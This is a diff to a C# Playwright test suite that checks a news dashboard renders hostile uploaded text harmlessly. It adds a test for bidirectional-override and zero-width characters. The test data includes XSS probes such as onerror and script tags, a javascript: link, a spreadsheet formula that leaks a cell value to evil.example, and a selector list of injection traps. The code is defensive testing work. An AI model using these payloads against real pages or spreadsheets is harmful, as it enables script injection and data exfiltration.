@@ -1,4 +1,3 @@
-using System.Text.RegularExpressions;
 using Microsoft.Playwright;
 using NewsDashboard.EndToEnd.Tests.Support;
 using static Microsoft.Playwright.Assertions;
@@ -9,6 +8,9 @@ namespace NewsDashboard.EndToEnd.Tests.Pages;
 public sealed class HostileTextTests(SharedBrowser browser, EmptyDashboard dashboard) : BrowserStory(browser), IClassFixture<EmptyDashboard>
 {
     private const string Formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"here\")";
+
+    /// <summary>Articles enough for a mean, so that the charts of tone name the outlet.</summary>
+    private const int Harmless = 6;
 
     private static readonly string[] Strings =
     [
@@ -33,7 +35,7 @@ public sealed class HostileTextTests(SharedBrowser browser, EmptyDashboard dashb
     /// <summary>What must not exist in the page, because only a string that became markup could have made it.</summary>
     private const string Traps =
         "[onerror], [onload], [onbegin], [onmouseover], [formaction], [srcdoc], iframe, math, animate, body base, body meta, main script, main style, "
-        + "a[href^='javascript:' i], [href*='evil.example'], [src*='evil.example']";
+        + "a[href^='javascript:' i], [href^='http://evil.example'], [src^='http://evil.example']";
 
     protected override Uri Server => dashboard.Address;
 
@@ -43,7 +45,7 @@ public sealed class HostileTextTests(SharedBrowser browser, EmptyDashboard dashb
         var page = await OpenAsync("sources");
         await UploadAsync(page);
         await ShowsTextAsync(page, "<img src=x onerror=alert(20)>.jsonl");
-        await page.GetByTitle("Show what was rejected and why").ClickAsync();
+        await page.GetByTitle("Show what was rejected and why").First.ClickAsync();
         await ShowsTextAsync(page, "<script>alert(21)</script>");
         await IsHarmlessAsync(page);
 
@@ -59,17 +61,16 @@ public sealed class HostileTextTests(SharedBrowser browser, EmptyDashboard dashb
             }
         }
 
-        await page.ShowAsync("articles");
+        await page.ShowAsync("articles?until=2024-06-30");
         var articles = await AddressesAsync(page.Locator(".article-list .article-title"));
-        Assert.Equal(Strings.Length, articles.Count);
+        Assert.Equal(Strings.Length + Harmless, articles.Count);
         foreach (var text in Strings)
             await Expect(page.Locator(".article-list").GetByText(text, new() { Exact = false }).First).ToBeVisibleAsync();
-        await OpenEachAsync(page, articles, ".reader");
+        Assert.Equal(Strings, await ReadEachAsync(page, articles, ".reader"));
 
         await page.ShowAsync("meetings");
         var meetings = await AddressesAsync(page.Locator(".meeting-table tbody a"));
-        Assert.NotEmpty(meetings);
-        await OpenEachAsync(page, meetings, ".report");
+        Assert.NotEmpty(await ReadEachAsync(page, meetings, ".report"));
     }
 
     [Fact]
@@ -106,6 +107,20 @@ public sealed class HostileTextTests(SharedBrowser browser, EmptyDashboard dashb
         Assert.DoesNotContain(csv.Rows, row => row.Any(cell => cell.Length > 0 && "=+@\t".Contains(cell[0], StringComparison.Ordinal)));
     }
 
+    [Fact]
+    public async Task P9_characters_that_turn_a_line_round_or_cannot_be_seen_do_not_reach_the_page()
+    {
+        const string Turned = "Bettong \u202Egpj.exe\u202C, \u2066isolated\u2069, zero\u200Bwidth\uFEFF, joined\u2060up";
+        var page = await OpenAsync("sources");
+        await UploadAsync(page, new ArticleLines().Add(Turned, $"Delegates said: {Turned}.", new DateOnly(2024, 7, 1), Turned).As("turned.jsonl"), "1 added");
+
+        await page.ShowAsync("articles?q=bettong");
+        await page.Locator(".article-list .article-title").ClickAsync();
+
+        await Expect(page.Locator(".reader-text")).ToContainTextAsync("Bettong gpj.exe, isolated, zerowidth, joinedup");
+        Assert.DoesNotContain(await page.ContentAsync(), c => c is >= '\u202A' and <= '\u202E' or >= '\u2066' and <= '\u2069' or '\u200B' or '\u2060' or '\uFEFF');
+    }
+
     /// <summary>Uploads an article a week for each string, which stands in all that the article has. Known ones are not added again.</summary>
     private static async Task UploadAsync(IPage page)
     {
@@ -119,25 +134,33 @@ public sealed class HostileTextTests(SharedBrowser browser, EmptyDashboard dashb
                 + $"French Foreign Minister Jean {text} Dupont met German Chancellor Olaf Scholz in {text} Berlin on Sunday, {text} officials said. {text}",
                 monday,
                 index == 0 ? Strings[0] : Strings[1 + (index % 2)],
-                index == 9 ? "javascript:alert(30)" : $"https://news.example/{index}?q={text}");
+                index == 9 ? "javascript:alert(30)" : $"https://www.example.com/{index}?q={text}");
         }
 
-        // Enough articles for a mean, so that the charts of tone name this outlet.
-        for (var number = 0; number < 6; number++)
+        for (var number = 0; number < Harmless; number++)
             file.Add($"Fair number {number}", $"The great fair of France opened in splendour for the {number}th time, to wide praise.", new DateOnly(2024, 2, 1).AddDays(number), Strings[1]);
         file.AddLine("""{"published": "<script>alert(21)</script>", "text": "<img src=x onerror=alert(22)>"}""");
-        await page.Locator("#upload-files").SetInputFilesAsync(file.As("<img src=x onerror=alert(20)>.jsonl"));
-        await Expect(page.GetByRole(AriaRole.Region, new() { Name = "Upload files" }).GetByRole(AriaRole.Status)).ToContainTextAsync("1 rejected");
+        await UploadAsync(page, file.As("<img src=x onerror=alert(20)>.jsonl"), "1 rejected");
     }
 
-    private static async Task OpenEachAsync(IPage page, IReadOnlyList<string> addresses, string text)
+    private static async Task UploadAsync(IPage page, FilePayload file, string result)
     {
+        await page.Locator("#upload-files").SetInputFilesAsync(file);
+        await Expect(page.GetByRole(AriaRole.Region, new() { Name = "Upload files" }).GetByRole(AriaRole.Status)).ToContainTextAsync(result);
+    }
+
+    /// <summary>Opens each, and tells which of the strings were shown there as they are.</summary>
+    private static async Task<IReadOnlyList<string>> ReadEachAsync(IPage page, IReadOnlyList<string> addresses, string where)
+    {
+        var texts = new List<string>();
         foreach (var address in addresses)
         {
             await page.ShowAsync(address);
-            await Expect(page.Locator(text).First).ToContainTextAsync(new Regex("[<&{%=]"));
+            texts.Add(await page.Locator(where).First.InnerTextAsync());
             await IsHarmlessAsync(page);
         }
+
+        return [.. Strings.Where(wanted => texts.Any(text => text.Contains(wanted, StringComparison.Ordinal)))];
     }
 
     private static async Task IsHarmlessAsync(IPage page) => await Expect(page.Locator(Traps)).ToHaveCountAsync(0);
